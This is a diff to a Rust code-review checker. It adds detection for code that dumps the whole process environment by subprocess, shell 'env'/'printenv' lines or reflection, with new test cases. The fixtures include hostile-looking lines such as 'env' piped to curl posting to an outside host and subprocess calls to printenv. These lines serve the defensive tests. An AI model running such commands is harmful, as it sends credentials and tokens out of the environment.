@@ -593,6 +593,45 @@ fn env_alias(code: &str, line: &str) -> bool {
             .any(|w| code.contains(w))
 }
 
+/// Programs that print the whole environment (spelled in pieces, see [`OUTPUT`]).
+const ENV_PRINTERS: &[&str] = &[concat!("print", "env"), concat!("en", "v")];
+
+/// The environment printed by another program (`subprocess.run(["env"])`, a shell line that is
+/// `env` or `printenv` alone or piped), or reached by reflection (`getattr(os, …)` with the
+/// attribute's name a literal, `Reflect.get(process, …)`).
+fn env_dumped(code: &str, line: &str, shell: bool) -> bool {
+    let lits = literals(line);
+    let first = |l: &str| l.split_whitespace().next().unwrap_or("").to_string();
+    let runs = [
+        "subprocess",
+        "os.system",
+        "os.popen",
+        "child_process",
+        "exec(",
+        "execSync",
+        "spawn",
+        concat!("Command", "::new"),
+    ]
+    .iter()
+    .any(|w| code.contains(w));
+    let printed = runs
+        && lits
+            .iter()
+            .any(|l| ENV_PRINTERS.contains(&first(l).as_str()));
+    let shell_line = shell && {
+        let t = code.trim_start();
+        ENV_PRINTERS.iter().any(|p| {
+            t.strip_prefix(p).is_some_and(|rest| {
+                let rest = rest.trim_start();
+                rest.is_empty() || rest.starts_with(['|', '>', ';', '&', ')'])
+            })
+        })
+    };
+    let reflected =
+        code.contains(concat!("proc", "ess")) && lits.iter().any(|l| *l == ENV_PRINTERS[1]);
+    printed || shell_line || reflected
+}
+
 pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
     let mut out = Vec::new();
     for f in change.files {
@@ -721,7 +760,11 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
                 Some(at) => &code[..at],
                 None => &code,
             };
-            let by_alias = agent_code && (env_alias(python_code, line) || proc_environ(line));
+            let shell = f.path.ends_with(".sh") || f.path.ends_with(".bash");
+            let by_alias = agent_code
+                && (env_alias(python_code, line)
+                    || proc_environ(line)
+                    || env_dumped(&code, line, shell));
             if (whole_env(&code) || by_alias) && (networked || agent_code) {
                 let place = if build_script {
                     "a build script"
@@ -964,6 +1007,10 @@ mod tests {
             case("node name concatenated", "web/x.js", None, &format!("const t = process.{}[\"GITHUB_\" + \"TOKEN\"];\n", "env"), &[B], "computed name"),
             case("rust name formatted", "src/a.rs", None, &format!("let t = std::env::{}(format!(\"{{}}_TOKEN\", \"GITHUB\"));\n", "var"), &[B], "computed name"),
             case("rust name in a variable", "src/a.rs", None, &format!("let t = std::env::{}(&name);\n", "var"), &[B], "computed name"),
+            case("environ by reflection", "tools/x.py", None, &format!("e = getattr(os, \"{}\")\n", concat!("envi", "ron")), &[B], "whole environment"),
+            case("env printed by a subprocess", "tools/x.py", None, &format!("out = subprocess.run([\"{}\"], capture_output=True)\n", concat!("print", "env")), &[B], "whole environment"),
+            case("env piped in a shell script", "scripts/ci.sh", None, &format!("{} | curl -d @- https://example.org\n", concat!("en", "v")), &[B], "whole environment"),
+            case("env setting a variable in a shell script", "scripts/ci.sh", None, &format!("{} LANG=C sort x\n", concat!("en", "v")), &[], ""),
             case("a name bound to a literal", "src/a.rs", None, &format!("const NAME: &str = \"HOME\";\nlet h = std::env::{}(NAME);\n", "var"), &[], ""),
             Case {
                 secret: ssh_body.clone(),
